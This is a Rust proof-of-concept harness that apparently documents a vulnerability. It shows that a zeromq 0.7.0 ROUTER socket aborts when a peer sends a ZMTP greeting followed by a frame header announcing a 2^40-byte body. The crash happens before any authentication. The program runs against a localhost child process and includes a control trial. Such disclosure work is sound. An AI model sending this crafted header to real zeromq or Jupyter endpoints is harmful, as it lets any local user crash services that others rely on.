//! Claim: zeromq 0.7.0 aborts the process when a peer announces a 2^40-byte frame: any local
//! user can do it, before any HMAC check, since the frame header is read during the ZMTP
//! handshake, before a single Jupyter message exists.
//!
//! The zeromq ROUTER socket runs in a child process (this binary with `--serve`), bound to
//! 127.0.0.1, so that an abort is observed rather than ending the report. The parent connects
//! as a plain TCP client, sends a ZMTP 3.0 greeting and then only a 9-byte frame header, and
//! reports how the child ended. A control run announces 1 MiB instead.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::unix::process::ExitStatusExt;
use std::process::{Child, Command, ExitCode, ExitStatus, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use sshpty_evidence::Report;
use zeromq::{Socket, SocketRecv};

/// The server child ends by itself after this, whatever happens to the parent.
const SERVE_FOR: Duration = Duration::from_secs(10);
/// Every wait of the parent (the port, connect, the server's greeting, the child's end).
const WAIT: Duration = Duration::from_secs(3);

fn main() -> ExitCode {
    if std::env::args().nth(1).as_deref() == Some("--serve") {
        return serve();
    }
    let big = match trial(1 << 40) {
        Ok(t) => t,
        Err(e) => {
            eprintln!("zeromq_frame: could not run the 2^40 trial: {e}");
            return ExitCode::FAILURE;
        }
    };
    let control = match trial(1 << 20) {
        Ok(t) => t,
        Err(e) => {
            eprintln!("zeromq_frame: could not run the control trial: {e}");
            return ExitCode::FAILURE;
        }
    };
    let overcommit = std::fs::read_to_string("/proc/sys/vm/overcommit_memory")
        .map(|s| s.trim().to_owned())
        .unwrap_or_else(|_| "unknown".into());
    let aborted = matches!(big.end, End::Exited(s, _) if s.signal() == Some(SIGABRT));
    let control_alive = matches!(control.end, End::Running);
    Report {
        title: "zeromq 0.7.0: a peer announcing a 2^40-byte frame aborts the process".into(),
        done: "zeromq RouterSocket bound to tcp://127.0.0.1:0 in a child process; a plain TCP \
               client (no key, no Jupyter message) sends a ZMTP 3.0 NULL greeting, then one \
               frame header (flags 0x06, 8-byte length) and not one byte of body; the child's \
               end is awaited for 3 s. Control: the same with a 1 MiB length."
            .into(),
        observed: vec![
            big.describe(),
            control.describe(),
            format!("vm.overcommit_memory = {overcommit} on this machine"),
        ],
        confirmed: aborted && control_alive,
    }
    .print();
    ExitCode::SUCCESS
}

/// SIGABRT on Linux: what the standard library's allocation-failure handler ends with.
const SIGABRT: i32 = 6;

fn signal_name(sig: i32) -> &'static str {
    match sig {
        6 => "SIGABRT",
        9 => "SIGKILL",
        11 => "SIGSEGV",
        15 => "SIGTERM",
        _ => "signal",
    }
}

/// The child: a zeromq ROUTER socket on 127.0.0.1, its port printed on stdout.
fn serve() -> ExitCode {
    let rt = match tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
    {
        Ok(rt) => rt,
        Err(e) => {
            eprintln!("serve: tokio runtime: {e}");
            return ExitCode::FAILURE;
        }
    };
    rt.block_on(async {
        let mut socket = zeromq::RouterSocket::new();
        let port = match socket.bind("tcp://127.0.0.1:0").await {
            Ok(zeromq::Endpoint::Tcp(_, port)) => port,
            Ok(other) => {
                eprintln!("serve: bound to an unexpected endpoint {other}");
                return ExitCode::FAILURE;
            }
            Err(e) => {
                eprintln!("serve: bind: {e}");
                return ExitCode::FAILURE;
            }
        };
        println!("{port}");
        let _ = std::io::stdout().flush();
        // Serve until a message arrives or the time is up; either way the process lives on
        // to here unless the socket's own code ends it.
        let _ = tokio::time::timeout(SERVE_FOR, socket.recv()).await;
        ExitCode::SUCCESS
    })
}

enum End {
    /// The child ended by itself, this long after the frame header was sent.
    Exited(ExitStatus, Duration),
    /// Still running when the wait was over (then killed by us).
    Running,
}

struct Trial {
    announced: u64,
    port: u16,
    /// Bytes of the server's greeting received before the header was sent.
    server_greeting: usize,
    end: End,
    stderr: String,
}

impl Trial {
    fn describe(&self) -> String {
        let size = if self.announced == 1 << 40 {
            "2^40 bytes".to_owned()
        } else {
            format!("{} bytes", self.announced)
        };
        let end = match self.end {
            End::Exited(status, after) => match status.signal() {
                Some(sig) => format!(
                    "child killed by signal {sig} ({}){} {:.3} s after the header",
                    signal_name(sig),
                    if status.core_dumped() {
                        ", core dumped,"
                    } else {
                        ""
                    },
                    after.as_secs_f64()
                ),
                None => format!(
                    "child exited with status {:?} {:.3} s after the header",
                    status.code(),
                    after.as_secs_f64()
                ),
            },
            End::Running => format!(
                "child still running {} s after the header (then killed by us)",
                WAIT.as_secs()
            ),
        };
        let stderr = match self.stderr.lines().next() {
            None => "nothing".to_owned(),
            Some(first) => format!("{first:?}"),
        };
        let mut out = format!(
            "announced {size} on port {} (server greeting received: {} of 64 bytes): {end}; \
             child's stderr: {stderr}",
            self.port, self.server_greeting
        );
        let zeromq = self.zeromq_frames();
        if !zeromq.is_empty() {
            out.push_str(&format!(
                "; zeromq frames of its backtrace: {}",
                zeromq.join(" <- ")
            ));
        }
        out
    }

    /// The zeromq functions on the child's stack when it aborted (from the backtrace the
    /// standard library prints with RUST_BACKTRACE=1), innermost first.
    fn zeromq_frames(&self) -> Vec<String> {
        self.stderr
            .lines()
            .filter_map(|l| l.trim().split_once(": "))
            .filter(|(n, _)| n.chars().all(|c| c.is_ascii_digit()))
            .map(|(_, f)| f.replace("::{{closure}}", ""))
            .filter(|f| f.contains("zeromq::"))
            .collect()
    }
}

fn trial(announced: u64) -> Result<Trial, String> {
    let exe = std::env::current_exe().map_err(|e| format!("current_exe: {e}"))?;
    let mut child = Command::new(exe)
        .arg("--serve")
        // For the report: where in zeromq the allocation failed.
        .env("RUST_BACKTRACE", "1")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|e| format!("spawn the server: {e}"))?;
    let result = run_trial(&mut child, announced);
    // Whatever happened, the child is gone before we return.
    if !matches!(child.try_wait(), Ok(Some(_))) {
        let _ = child.kill();
        let _ = child.wait();
    }
    let mut trial = result?;
    if let Some(mut err) = child.stderr.take() {
        let _ = err.read_to_string(&mut trial.stderr);
    }
    Ok(trial)
}

fn run_trial(child: &mut Child, announced: u64) -> Result<Trial, String> {
    let port = read_port(child)?;
    let addr = SocketAddr::from(([127, 0, 0, 1], port));
    let mut stream =
        TcpStream::connect_timeout(&addr, WAIT).map_err(|e| format!("connect {addr}: {e}"))?;
    stream
        .set_read_timeout(Some(WAIT))
        .and_then(|()| stream.set_write_timeout(Some(WAIT)))
        .map_err(|e| format!("socket timeouts: {e}"))?;

    // ZMTP 3.0 greeting (rfc.zeromq.org/spec/23): signature, version 3.0, mechanism NULL,
    // as-server 0, filler.
    let mut greeting = [0u8; 64];
    greeting[0] = 0xff;
    greeting[9] = 0x7f;
    greeting[10] = 3;
    greeting[12..16].copy_from_slice(b"NULL");
    stream
        .write_all(&greeting)
        .map_err(|e| format!("send greeting: {e}"))?;
    let server_greeting = read_up_to(&mut stream, 64);

    // A command frame with a long (8-byte) size: the READY the handshake expects next.
    let mut header = [0u8; 9];
    header[0] = 0x06;
    header[1..].copy_from_slice(&announced.to_be_bytes());
    stream
        .write_all(&header)
        .map_err(|e| format!("send frame header: {e}"))?;
    let sent = Instant::now();

    // The connection stays open (`stream` lives) until the child's end is known.
    let end = loop {
        match child.try_wait() {
            Ok(Some(status)) => break End::Exited(status, sent.elapsed()),
            Ok(None) if sent.elapsed() >= WAIT => break End::Running,
            Ok(None) => std::thread::sleep(Duration::from_millis(10)),
            Err(e) => return Err(format!("wait for the child: {e}")),
        }
    };
    drop(stream);
    Ok(Trial {
        announced,
        port,
        server_greeting,
        end,
        stderr: String::new(),
    })
}

/// The port the child prints once bound, waited for at most `WAIT`.
fn read_port(child: &mut Child) -> Result<u16, String> {
    let stdout = child.stdout.take().ok_or("no stdout pipe")?;
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let mut line = String::new();
        let _ = BufReader::new(stdout).read_line(&mut line);
        let _ = tx.send(line);
    });
    let line = rx
        .recv_timeout(WAIT)
        .map_err(|_| "the server did not print its port within 3 s".to_owned())?;
    line.trim()
        .parse()
        .map_err(|_| format!("the server printed {line:?}, not a port"))
}

/// Read up to `n` bytes until they are there, EOF, or the read timeout; the count read.
fn read_up_to(stream: &mut TcpStream, n: usize) -> usize {
    let mut buf = vec![0u8; n];
    let mut got = 0;
    while got < n {
        match stream.read(&mut buf[got..]) {
            Ok(0) | Err(_) => break,
            Ok(k) => got += k,
        }
    }
    got
}
